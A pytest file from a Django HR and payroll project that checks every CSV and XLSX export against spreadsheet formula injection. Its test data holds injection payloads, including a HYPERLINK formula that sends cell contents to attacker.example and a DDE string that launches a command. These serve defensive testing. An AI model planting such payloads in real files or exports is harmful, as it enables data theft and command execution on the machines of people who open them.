"""Exports that cannot attack their readers: a name typed by an applicant or an employee that a
spreadsheet would run as a formula arrives as text in every CSV and XLSX the project writes.

Every export is found two ways: no module but `kinerja.spreadsheets` writes CSV or XLSX (a scan of the
source), and every URL that hands out a file is listed below with the test that sends a formula through
it (a scan of the URL maps: a new export URL fails here until it is listed)."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import get_resolver
from django.urls.resolvers import URLResolver
from openpyxl import load_workbook

from kinerja import spreadsheets
from kinerja.accounts.models import Role
from kinerja.reports import services as report_services
from tests.factories import make_employee, make_login, make_unit
from tests.helpers import english_client, in_region, make_user

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
DANGEROUS = re.compile(r"^[=+\-@\t\r]")


def cells_of(content: bytes, name: str) -> list[str]:
    """Every text cell of a CSV or XLSX file; fails on a formula cell."""
    if name.endswith(".xlsx") or content[:2] == b"PK":
        book = load_workbook(io.BytesIO(content))
        found = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{name}: formula cell {cell.coordinate} = {cell.value!r}"
                    if isinstance(cell.value, str):
                        found.append(cell.value)
        return found
    text = content.decode("utf-8-sig")
    dialect = csv.Sniffer().sniff(text.splitlines()[0]) if ";" in text.splitlines()[0] else csv.excel
    return [value for row in csv.reader(io.StringIO(text), dialect) for value in row]


def assert_no_formula(content: bytes, name: str, planted: str) -> None:
    cells = cells_of(content, name)
    dangerous = [c for c in cells if DANGEROUS.match(c)]
    assert not dangerous, f"{name}: {dangerous}"
    assert any(planted in c for c in cells), f"{name} lost the planted value altogether"


# --- 1. nothing else writes a spreadsheet ---------------------------------------------------------
WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|from openpyxl import[^\n]*\bWorkbook\b|xlsxwriter")


def test_only_the_helper_writes_csv_or_xlsx():
    offenders = []
    for folder in ("platform", "api", "tenants", "plugins"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "spreadsheets.py" or "/tests/" in str(path) or ".venv" in path.parts:
                continue
            if WRITERS.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_helper_turns_every_formula_start_into_text(formula):
    text = spreadsheets.csv_text(["NAMA"], [[formula, -5, 3]])
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[0] == "'" + formula and row[1:] == ["-5", "3"]  # numbers stay numbers
    book = spreadsheets.workbook()
    spreadsheets.append(book.active, [formula, -5])
    cells = cells_of(spreadsheets.workbook_bytes(book), "x.xlsx")
    assert cells in (["'" + formula], ["'" + formula.replace("\r", "\n")])  # XML keeps no bare CR
    assert spreadsheets.neutralise("Siti = Budi") == "Siti = Budi"


# --- 2. every export URL ----------------------------------------------------------------------------
def file_routes() -> set[tuple[str, str]]:
    """(URL map, route) of every URL whose route or name says it hands out a file."""
    found = set()

    def walk(patterns, prefix=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, prefix + str(pattern.pattern))
            else:
                route = prefix + str(pattern.pattern)
                if re.search(r"export|\.csv|\.xlsx|transfer|register|template|payslip", route + (pattern.name or "")):
                    found.add(route)

    for conf in ("kinerja.urls_tenant", "kinerja.urls_public"):
        before = len(found)
        walk(get_resolver(conf).url_patterns)
        found = {(conf, r) if isinstance(r, str) else r for r in found}
        assert len(found) > before
    return found


SPREADSHEET_URLS = {
    ("kinerja.urls_tenant", "people/employees/export.xlsx"): "test_employee_name_as_formula",
    ("kinerja.urls_tenant", "api/v1/^employees/export/$"): "test_employee_name_as_formula",
    ("kinerja.urls_tenant", "people/units/export.xlsx"): "test_employee_name_as_formula",
    ("kinerja.urls_tenant", "people/imports/template/<str:kind>.xlsx"): "test_employee_name_as_formula",
    ("kinerja.urls_tenant", "appraisal/^exports/(?P<year>\\d{4})/(?P<kind>skp22|kinerjaperiodik)\\.(?P<fmt>json|csv)$"):
        "tests/appraisal/test_exports.py::test_skp22_csv_with_a_formula_name",
    ("kinerja.urls_tenant", "pay/runs/<int:pk>/export/register.xlsx"): "tests/pay/test_outputs.py::test_formula_names",
    ("kinerja.urls_tenant", "pay/runs/<int:pk>/export/transfer.csv"): "tests/pay/test_outputs.py::test_formula_names",
    ("kinerja.urls_tenant", "pay/annual/<int:year>/export.xlsx"): "test_annual_tpp_summary_with_a_formula_unit_name",
    ("kinerja.urls_tenant", "api/v1/^pay/annual-summary/export/$"): "test_annual_tpp_summary_with_a_formula_unit_name",
    ("kinerja.urls_tenant", "api/v1/^pay-runs/(?P<pk>[0-9]{1,18})/register/$"): "tests/pay/test_outputs.py::test_formula_names",
    ("kinerja.urls_tenant", "api/v1/^pay-runs/(?P<pk>[0-9]{1,18})/transfer/$"): "tests/pay/test_outputs.py::test_formula_names",
    ("kinerja.urls_tenant", "recruitment/stages/<int:pk>/export.<str:fmt>"):
        "tests/recruitment/test_formula_names.py::test_an_applicant_named_as_a_formula",
    ("kinerja.urls_tenant", "api/v1/^recruitment/stages/(?P<pk>[0-9]{1,18})/export/$"):
        "tests/recruitment/test_formula_names.py::test_an_applicant_named_as_a_formula",
    ("kinerja.urls_tenant", "training/export/"): "tests/training/test_pages_and_api.py::test_national_export_csv_with_a_formula_name",
    ("kinerja.urls_tenant", "api/v1/^training/national-export/$"): "tests/training/test_pages_and_api.py::test_national_export_csv_with_a_formula_name",
    ("kinerja.urls_tenant", "reports/export.<str:fmt>"): "test_bkn_and_region_reports_with_a_formula_unit_name",
    ("kinerja.urls_public", "bkn/regions/<slug:slug>/export.<str:fmt>"): "test_bkn_and_region_reports_with_a_formula_unit_name",
    ("kinerja.urls_public", "bkn/export/<str:view>.<str:fmt>"): "test_bkn_and_region_reports_with_a_formula_unit_name",
}
NOT_SPREADSHEETS = {
    "jobs/register/": "the applicant's sign-up form",
    "pay/runs/<int:pk>/export/payslips.zip": "PDF payslips in a zip",
    "\\.(?P<format>[a-z0-9]+)/?$": "DRF's format suffix of an action listed without it",
    "payslip": "PDF payslips",
    "indicator-templates": "JSON indicator templates",
    "plan-templates": "JSON plan templates (results and indicators)",
    "appraisal/templates/": "the page keeping the plan templates",
    "/archive/": "the region archive (a zip of JSON rows and the uploads)",
    "appraisal/exports/": "JSON in the national system's shape",
    "pay/verify/": "the page confirming a payslip's verification code",
}


def test_every_url_handing_out_a_file_is_listed_with_its_formula_test():
    unlisted = []
    for conf, route in sorted(file_routes()):
        if (conf, route) in SPREADSHEET_URLS:
            continue
        if any(marker in route for marker in NOT_SPREADSHEETS):
            continue
        unlisted.append((conf, route))
    assert unlisted == [], "list each new export in SPREADSHEET_URLS with the test that plants a formula in it"


# --- 3. the exports, fed a formula --------------------------------------------------------------------
@pytest.fixture
def formula_staff(region_a):
    with in_region(region_a):
        unit = make_unit("=CMD", '=HYPERLINK("http://attacker.example","Dinas")')
        employee = make_employee(unit, FORMULAS[0], with_user=False)
        hr = make_login(Role.HR_ADMIN, "formula-hr")
    return region_a, unit, employee, hr


def test_employee_name_as_formula(formula_staff):
    region, unit, employee, hr = formula_staff
    client = english_client(region, hr)
    for url, planted in (("/people/employees/export.xlsx", FORMULAS[0]), ("/api/v1/employees/export/", FORMULAS[0]),
                         ("/people/units/export.xlsx", unit.name)):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_no_formula(response.content, "x.xlsx", planted)
    template = client.get("/people/imports/template/employees.xlsx")
    assert template.status_code == 200 and not [c for c in cells_of(template.content, "t.xlsx") if DANGEROUS.match(c)]


def test_bkn_and_region_reports_with_a_formula_unit_name(formula_staff):
    """A unit name typed by HR reaches BKN's curve table; it arrives as text."""
    from tests.reports.factories import populate, rate_everyone

    region, unit, _employee, hr = formula_staff
    with in_region(region):
        people = populate("F")
        rate_everyone(people)
        people.units["DINKES"].name = "=1+2"
        people.units["DINKES"].save(update_fields=["name"])
    report_services.take_snapshot(region)
    bkn = english_client(None, make_user(None, Role.BKN_ANALYST, username="formula-bkn"))
    for url in (f"/bkn/regions/{region.schema_name}/export.csv?table=curve",
                f"/bkn/regions/{region.schema_name}/export.xlsx"):
        response = bkn.get(url)
        assert response.status_code == 200, url
        assert_no_formula(response.content, url.split("?")[0], "=1+2")
    assert bkn.get("/bkn/export/overview.xlsx").status_code == 200
    response = english_client(region, hr).get("/reports/export.xlsx")
    assert response.status_code == 200
    assert_no_formula(response.content, "r.xlsx", "=1+2")


def test_annual_tpp_summary_with_a_formula_unit_name(formula_staff):
    import datetime

    from kinerja.pay.models import PayResult, PayRun

    region, unit, employee, hr = formula_staff
    with in_region(region):
        run = PayRun.objects.create(month=datetime.date(2025, 12, 1), status="locked")
        PayResult.objects.create(run=run, employee=employee, nip=employee.nip, full_name=employee.full_name,
                                 unit_name=FORMULAS[1], position_class=7, employee_type="PNS", net=1_000)
    client = english_client(region, hr)
    for url in ("/pay/annual/2025/export.xlsx", "/api/v1/pay/annual-summary/export/?year=2025"):
        response = client.get(url)
        assert response.status_code == 200
        assert_no_formula(response.content, "rekap.xlsx", FORMULAS[1])
